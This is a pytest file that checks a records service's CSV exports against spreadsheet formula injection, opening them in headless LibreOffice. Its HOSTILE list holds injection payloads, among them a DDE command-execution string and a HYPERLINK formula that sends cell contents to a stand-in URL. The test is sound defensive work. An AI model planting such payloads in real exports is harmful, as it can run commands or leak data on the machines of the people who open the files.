"""The CSV exports opened in real LibreOffice (headless), as HR would open them: with comma,
semicolon or tab as the separator, no cell is ever a formula, and with the file's own comma
every cell reads as exactly the text the service wrote (legitimate values as typed)."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from tests.hostile_requests import unthrottled_project
from tests.records_kit import Service, acknowledgement, violation_report

HOSTILE = [
    "=1+2", "Ann;=1+2", "Ann\t=1+2", "Ann,=1+2", "x\n=2+3", '=HYPERLINK("http://x?"&A1,"y")', "@SUM(1)",
    "-2+3", "+1", "=cmd|' /C calc'!A0", 'a";=1+2;"b', "a;@SUM(1);b", "a\t-2+3", '"=1+2', "Ann; =1+2",
]
LEGITIMATE = ["-Ann", "+1 860 555 0100", "@Home", "Ann O'Neil", "Smith, Ann; Parks", "Zoë Ångström"]
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}


def soffice() -> str:
    found = shutil.which("soffice")
    if found is None:
        if os.environ.get("CI") == "true":
            pytest.fail("soffice is missing; .ci/run installs libreoffice-calc-nogui")
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui); CI runs this")
    return found


def _text(element: ET.Element) -> str:
    """A cell paragraph's text, with ODF's encoded spaces, tabs and line breaks put back."""
    parts = [element.text or ""]
    for child in element:
        tag = child.tag.split("}")[1]
        if tag == "s":
            parts.append(" " * int(child.get(f"{{{NS['text']}}}c", "1")))
        elif tag == "tab":
            parts.append("\t")
        elif tag == "line-break":
            parts.append("\n")
        else:
            parts.append(_text(child))
        parts.append(child.tail or "")
    return "".join(parts)


Cell = tuple[str, str | None, str]
"""(value type, formula if any, text) of one spreadsheet cell."""


def sheet(fods: Path) -> list[list[Cell]]:
    """The first sheet of a flat ODF spreadsheet as rows of cells."""
    rows = []
    for row in ET.parse(fods).getroot().iter(f"{{{NS['table']}}}table-row"):
        cells: list[Cell] = []
        for cell in row.iter(f"{{{NS['table']}}}table-cell"):
            repeat = min(int(cell.get(f"{{{NS['table']}}}number-columns-repeated", "1")), 64)
            text = "\n".join(_text(p) for p in cell.findall("text:p", NS))
            kind = cell.get(f"{{{NS['office']}}}value-type", "")
            cells.extend([(kind, cell.get(f"{{{NS['table']}}}formula"), text)] * repeat)
        while cells and cells[-1] == ("", None, ""):
            cells.pop()
        if cells:
            rows.append(cells)
    return rows


def opened(files: dict[str, Path], separator: str, work: Path) -> dict[str, list[list[Cell]]]:
    """Each CSV file as LibreOffice Calc reads it with that separator (UTF-8, '"' quoting)."""
    out = work / separator
    profile = (work / "profile").resolve().as_uri()
    subprocess.run([soffice(), f"-env:UserInstallation={profile}", "--headless",
                    f"--infilter=CSV:{SEPARATORS[separator]},34,76,1", "--convert-to", "fods",
                    "--outdir", str(out), *map(str, files.values())],
                   check=True, capture_output=True, timeout=300)
    return {kind: sheet(out / (path.stem + ".fods")) for kind, path in files.items()}


@pytest.fixture(scope="module")
def exports(built_site: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The service's acknowledgements and forms exports, with every value above in names,
    departments, signatures and form answers."""
    base = tmp_path_factory.mktemp("libreoffice")
    root, project = unthrottled_project(base)
    service = Service(root, built_site, base / "records.sqlite")
    try:
        for n, value in enumerate(HOSTILE + LEGITIMATE):
            line = value.replace("\t", " ").replace("\n", " ")  # one-line fields refuse tabs and breaks
            person = {"employee_id": f"L{n}", "name": line, "department": line, "role": "employee",
                      "email": None}
            record = acknowledgement(project, employee_id=f"L{n}", signature=line)
            record["person"] = person
            form = violation_report(project, employee_id=f"L{n}", description=value)
            form["person"] = person
            for body in (record, form):
                status, _, answer = service.post("/api/records", body)
                assert status == 201, answer
        files = {}
        for kind in ("acknowledgements", "forms"):
            status, _, text = service.get(f"/api/export/{kind}.csv", service.auth())
            assert status == 200
            files[kind] = base / f"{kind}.csv"
            files[kind].write_bytes(text.encode("utf-8"))
        return files
    finally:
        service.close()


@pytest.mark.parametrize("separator", list(SEPARATORS))
def test_no_cell_is_a_formula_whatever_the_separator(exports, separator, tmp_path):
    for kind, rows in opened(exports, separator, tmp_path).items():
        assert len(rows) > len(HOSTILE)
        formulas = [cell for row in rows for cell in row if cell[1] is not None or cell[0] == "error"]
        assert formulas == [], (kind, separator, formulas[:5])


def test_with_the_files_comma_every_cell_is_the_text_the_service_wrote(exports, tmp_path):
    for kind, rows in opened(exports, "comma", tmp_path).items():
        written = list(csv.reader(io.StringIO(exports[kind].read_text(encoding="utf-8"), newline="")))
        assert len(rows) == len(written)
        for cells, expected in zip(rows, written, strict=True):
            texts = [text for _, _, text in cells] + [""] * (len(expected) - len(cells))
            assert texts == expected
            assert all(formula is None for _, formula, _ in cells)
    forms = list(csv.DictReader(io.StringIO(exports["forms"].read_text(encoding="utf-8"), newline="")))
    names = {row["name"] for row in forms}
    assert set(LEGITIMATE) <= names  # legitimate values read as typed: no quote added
